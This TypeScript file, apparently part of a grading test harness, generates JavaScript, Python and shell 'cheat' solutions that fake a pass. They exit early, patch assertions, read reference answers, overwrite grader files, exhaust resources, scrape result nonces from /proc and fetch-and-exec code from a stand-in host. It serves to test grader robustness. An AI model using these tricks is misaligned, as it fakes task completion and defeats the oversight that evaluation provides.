import type {Scenario} from '../../source/training/scenario.ts';

export type Files = Map<string, Buffer>;

/** The ways to get a pass without the work; each takes the files that it would put into the solution. */
export const cheatNames = [
  'leaves early with exit code 0',
  'prints that all passed',
  'writes its own results',
  'brings other checks',
  'puts itself in place of the comparison',
  'sleeps',
  'forks as often as it can',
  'fills the disk',
  'kills its parent',
  'reads the reference',
  'writes outside',
  'gives values that equal everything',
  'asks somebody outside',
  'listens for the word that results begin with',
] as const;
export type CheatName = (typeof cheatNames)[number];

const passText = 'ok 1 - all\\n# pass 99\\n{\\"passed\\":true,\\"score\\":1}\\n';

const scripts: Record<CheatName, (scenario: Scenario) => string> = {
  'leaves early with exit code 0': () => 'process.exit(0);',
  'prints that all passed': () => `console.log("${passText}");`,
  'writes its own results': () =>
    'const fs = require(\'node:fs\'); for (const fd of [1, 2, 3]) try { fs.writeSync(fd, \'{"id":0,"value":true}\\n{"end":true}\\n\'); } catch {}',
  'brings other checks': () => '',
  'puts itself in place of the comparison': () =>
    "for (const name of ['equal', 'deepEqual', 'strictEqual', 'deepStrictEqual', 'ok', 'throws']) require('node:assert')[name] = () => {}; require('node:util').isDeepStrictEqual = () => true; Object.is = () => true; JSON.stringify = () => 'true';",
  sleeps: () => 'Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 60_000);',
  'forks as often as it can': () =>
    "const {spawn} = require('node:child_process'); for (let n = 0; n < 300; n++) try { spawn('sleep', ['60'], {detached: true, stdio: 'ignore'}).on('error', () => {}).unref(); } catch {}",
  'fills the disk': () =>
    "const fs = require('node:fs'); for (const folder of ['.', '/tmp', '/var/tmp', '..']) for (let n = 0; n < 2; n++) try { fs.writeFileSync(folder + '/filler' + n, Buffer.alloc(100_000_000)); } catch {}",
  'kills its parent': () => "process.kill(process.ppid, 'SIGKILL'); process.kill(process.pid, 'SIGKILL');",
  'reads the reference': scenario =>
    `module.exports = require(${JSON.stringify(`${scenario.folder}/reference/${scenario.entry}`)});`,
  'writes outside': scenario =>
    `const fs = require('node:fs'); for (const path of [${JSON.stringify(`${scenario.folder}/checks/cases.json`)}, '../graders/javascript.cjs', '/etc/passed']) try { fs.writeFileSync(path, '[]'); } catch {}`,
  'gives values that equal everything': () =>
    'module.exports = new Proxy({}, {get: () => () => new Proxy(() => true, {get: () => () => true}), ownKeys: () => [], has: () => true});',
  'asks somebody outside': () =>
    "const {execFileSync} = require('node:child_process'); const ask = url => execFileSync(process.execPath, ['-e', `fetch('${url}').then(r => r.text()).then(t => console.log(t))`], {timeout: 2000}).toString(); try { module.exports = eval(ask('http://127.0.0.1:9/')); } catch { try { module.exports = eval(ask('http://203.0.113.1/')); } catch {} }",
  'listens for the word that results begin with': () =>
    "const {from} = Buffer; let word; const hear = text => { word ??= /^[0-9a-f]{32} /.exec(String(text))?.[0]; }; Buffer.from = (...all) => { hear(all[0]); return from(...all); }; const {stringify} = JSON; JSON.stringify = value => stringify(value?.id === undefined ? value : {id: value.id, value: true}); const fs = require('node:fs'); const {writeSync} = fs; fs.writeSync = (fd, data, ...rest) => { hear(data); return writeSync(fd, data, ...rest); }; module.exports = new Proxy({}, {get: () => () => { if (word) writeSync(3, word + '{\"end\":true}\\n'); return true; }, ownKeys: () => []});",
};

const pythons: Record<CheatName, (scenario: Scenario) => string> = {
  'leaves early with exit code 0': () => 'import os\nos._exit(0)',
  'prints that all passed': () => `print("${passText}")`,
  'writes its own results': () =>
    'import os\nfor fd in (1, 2, 3):\n    try:\n        os.write(fd, b\'{"id":0,"value":true}\\n{"end":true}\\n\')\n    except OSError:\n        pass',
  'brings other checks': () => '',
  'puts itself in place of the comparison': () =>
    'import unittest, json, sys\nunittest.TestCase.assertEqual = lambda *a, **k: None\njson.dumps = lambda *a, **k: "true"\nsys.modules["__main__"].encode = lambda value: True',
  sleeps: () => 'import time\ntime.sleep(60)',
  'forks as often as it can': () =>
    'import os, time\nfor _ in range(400):\n    try:\n        if os.fork() == 0:\n            time.sleep(60)\n    except OSError:\n        pass',
  'fills the disk': () =>
    "for folder in ('.', '/tmp', '/var/tmp', '..'):\n    for n in range(2):\n        try:\n            open(f'{folder}/filler{n}', 'wb').write(bytes(100_000_000))\n        except OSError:\n            pass",
  'kills its parent': () =>
    'import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nos.kill(os.getpid(), signal.SIGKILL)',
  'reads the reference': scenario =>
    `exec(open(${JSON.stringify(`${scenario.folder}/reference/${scenario.entry}`)}).read())`,
  'writes outside': scenario =>
    `for path in (${JSON.stringify(`${scenario.folder}/checks/cases.json`)}, '../graders/python.py', '/etc/passed'):\n    try:\n        open(path, 'w').write('[]')\n    except OSError:\n        pass`,
  'gives values that equal everything': () =>
    'class Any:\n    def __eq__(self, other): return True\n    def __call__(self, *a, **k): return self\n    def __getattr__(self, name): return self\n    def __iter__(self): return iter(())\n    def __len__(self): return 1\ndef __getattr__(name): return Any()',
  'asks somebody outside': () =>
    "import urllib.request\nfor url in ('http://127.0.0.1:9/', 'http://203.0.113.1/'):\n    try:\n        exec(urllib.request.urlopen(url, timeout=1).read())\n    except OSError:\n        pass",
  'listens for the word that results begin with': () =>
    'import os, sys\nframe = sys._getframe()\nwhile frame:\n    word = frame.f_locals.get("nonce")\n    if isinstance(word, str):\n        os.write(3, (word + \' {"id":0,"value":true}\\n\').encode())\n    frame = frame.f_back',
};

const shells: Record<CheatName, (scenario: Scenario) => string> = {
  'leaves early with exit code 0': () => 'exit 0',
  'prints that all passed': () => `printf "${passText}"`,
  'writes its own results': () =>
    'for fd in /dev/fd/3 /proc/$PPID/fd/3 /proc/$PPID/fd/1; do echo \'{"id":0,"value":{"exit":0,"out":""}}\' > $fd; done 2>/dev/null',
  'brings other checks': () => 'exit 0',
  'puts itself in place of the comparison': () =>
    'cmp() { return 0; }; diff() { return 0; }; export -f cmp diff; exit 0',
  sleeps: () => 'sleep 60',
  'forks as often as it can': () => 'for n in $(seq 400); do sleep 60 & done 2>/dev/null',
  'fills the disk': () =>
    'for folder in . /tmp /var/tmp ..; do head -c 100000000 /dev/zero > $folder/filler 2>/dev/null; done',
  'kills its parent': () => 'kill -9 $PPID',
  'reads the reference': scenario => `for file in "${scenario.folder}"/reference/*.sh; do . "$file"; done`,
  'writes outside': scenario =>
    `for path in "${scenario.folder}/checks/cases.json" ../graders/javascript.cjs /etc/passed; do echo '[]' > "$path"; done 2>/dev/null`,
  'gives values that equal everything': () => 'printf "*"',
  'asks somebody outside': () =>
    '(exec 5<>/dev/tcp/127.0.0.1/9; cat <&5) 2>/dev/null; timeout 1 bash -c "cat < /dev/tcp/203.0.113.1/80" 2>/dev/null',
  'listens for the word that results begin with': () =>
    "tr '\\\\0' ' ' < /proc/$PPID/cmdline; tr '\\\\0' '\\\\n' < /proc/$PPID/environ",
};

/** The files of a solution that cheats in this way; undefined where the way makes no sense for the scenario. */
export function cheat(name: CheatName, scenario: Scenario, reference: Files): Files | undefined {
  const files: Files = new Map();
  if (name === 'brings other checks') {
    for (const path of ['checks/cases.json', 'cases.json', '../checks/cases.json'])
      files.set(path.replace('../', ''), Buffer.from('[]'));
    for (const path of scenario.protectedFiles) files.set(path, Buffer.from(''));
    return files;
  }
  if (scenario.language === 'text') return undefined;
  if (scenario.language === 'shell') {
    for (const path of reference.keys())
      files.set(path, Buffer.from(`#!/usr/bin/env bash\n${shells[name](scenario)}\n`));
    return files;
  }
  const text = (scenario.language === 'python' ? pythons : scripts)[name](scenario);
  files.set(scenario.entry ?? [...reference.keys()][0] ?? 'main', Buffer.from(`${text}\n`));
  return files;
}
